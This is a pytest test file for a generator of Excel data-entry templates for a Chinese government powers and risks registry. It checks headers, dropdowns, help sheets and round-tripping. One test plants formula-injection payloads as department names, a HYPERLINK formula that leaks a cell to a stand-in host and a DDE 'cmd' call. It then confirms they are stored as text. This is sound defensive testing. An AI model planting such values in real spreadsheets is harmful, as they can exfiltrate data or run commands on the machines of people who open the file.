"""Excel templates from the registry: they open with dropdowns, and a filled one checks clean."""

from __future__ import annotations

import html
import io
import shutil

import openpyxl
import pytest

from generator.records import fields as T
from generator.records.blank import file_name, template_kinds, write_templates
from generator.records.dataset import load_dataset

from .conftest import SECOND_BODY


@pytest.fixture
def templates(second_body, tmp_path):
    ds, report = load_dataset(second_body)
    assert report.ok
    out = tmp_path / "templates"
    write_templates(out, ds)
    return out, ds


def _validations(ws) -> dict[str, object]:
    """Column letter → its data validation."""
    out = {}
    for dv in ws.data_validations.dataValidation:
        for rng in dv.sqref.ranges:
            out[rng.coord.split(":")[0].rstrip("0123456789")] = dv
    return out


@pytest.mark.parametrize("kind", template_kinds(), ids=lambda k: k.name)
def test_template_has_headers_frozen_row_dropdowns_and_help(templates, kind):
    out, ds = templates
    wb = openpyxl.load_workbook(out / file_name(kind))
    ws = wb.worksheets[0]
    assert [c.value for c in ws[1]] == [f.label for f in kind.fields]
    assert ws.freeze_panes == "A2"
    dvs = _validations(ws)
    lists = wb["选项"]
    assert lists.sheet_state == "hidden"
    for i, f in enumerate(kind.fields, start=1):
        letter = openpyxl.utils.get_column_letter(i)
        assert ws.column_dimensions[letter].width >= 10
        if f.type in (T.CHOICE, T.CHOICES, T.BOOL) or (f.type in (T.REF, T.REFS) and getattr(ds, f.ref)):
            assert letter in dvs, f"{kind.name}.{f.key} has no dropdown"
            dv = dvs[letter]
            assert dv.type == "list" and f"{letter}2:{letter}501" in str(dv.sqref)
            sheet, cells = dv.formula1.split("!")
            first, last = cells.replace("$", "").split(":")
            values = [c.value for (c,) in lists[first:last]]
            if f.type in (T.CHOICE, T.CHOICES):
                assert values == list(ds.site.vocabularies.get(f.vocab) or T.VOCABULARIES[f.vocab].values)
            elif f.type == T.BOOL:
                assert values == ["是", "否"]
            else:  # references list the current records, by name
                assert values == [r.name for r in getattr(ds, f.ref).values()]
        if f.type == T.DATE:
            assert ws[f"{letter}2"].number_format == "yyyy-mm-dd"
    help_rows = [[c.value for c in row] for row in wb["填写说明"].iter_rows()]
    for f in kind.fields:
        assert any(row[:2] == [f.label, f.key] and (row[4] or "") == f.help for row in help_rows), f.key


def test_templates_are_byte_identical(second_body, tmp_path):
    ds, _ = load_dataset(second_body)
    a, b = write_templates(tmp_path / "a", ds), write_templates(tmp_path / "b", ds)
    assert [p.read_bytes() for p in a] == [p.read_bytes() for p in b]


def test_a_filled_template_checks_clean(templates, second_body):
    out, _ = templates
    wb = openpyxl.load_workbook(out / "powers.xlsx")
    ws = wb.worksheets[0]
    labels = [c.value for c in ws[1]]
    row = {"编码": "TP-001", "名称": "职业技能等级认定", "类型": "行政确认", "部门": "职业能力建设科",
           "承办岗位": "技能鉴定审核岗", "依据": "《职业技能等级认定办法》\n第十条", "责任事项": "1.受理；2.审核；3.公布",
           "流程": "BT", "公开状态": "公开", "核对日期": "2024-05-01"}
    ws.append([row.get(label) for label in labels])
    wb.save(second_body / "powers" / "模板.xlsx")
    shutil.copy(out / "risks.xlsx", second_body / "risks" / "空模板.xlsx")  # an unfilled template is no problem
    ds, report = load_dataset(second_body)
    assert report.ok and not report.warnings, report.format("text")
    p = ds.powers["TP-001"]
    assert (p.department, p.posts, p.flow, p.responsibilities) == ("ZYJS", ["JD-SH"], "BT", ["1.受理", "2.审核", "3.公布"])


def test_guide_links_every_template():
    from .conftest import ROOT

    guide = (ROOT / "content" / "guide" / "index.md").read_text(encoding="utf-8")
    for kind in template_kinds():
        assert f"(templates/{file_name(kind)})" in guide, kind.name


def test_names_excel_would_run_are_text_in_every_workbook_we_write():
    """A department named like a formula (=HYPERLINK, a DDE call) goes into the dropdowns' hidden sheet of every
    blank workbook: as text, never as a formula Excel would run when the sheet is opened."""
    import zipfile

    from generator.records.blank import template_kinds, workbook
    from generator.records.dataset import load_dataset

    ds, _ = load_dataset(SECOND_BODY)
    names = ['=HYPERLINK("https://x.example/?"&A1,"点我")', "=cmd|' /C calc'!A0", "=1+1"]
    for dept, name in zip(ds.departments.values(), names):
        dept.name = name
    for kind in template_kinds():
        with zipfile.ZipFile(io.BytesIO(workbook(kind, ds))) as z:
            sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
            assert not any("<f>" in s or "<f " in s for s in sheets), kind.name
            if any(f.ref == "departments" for f in kind.fields):  # the names are there, as text
                assert any("=cmd|' /C calc'!A0" in html.unescape(s) for s in sheets), kind.name
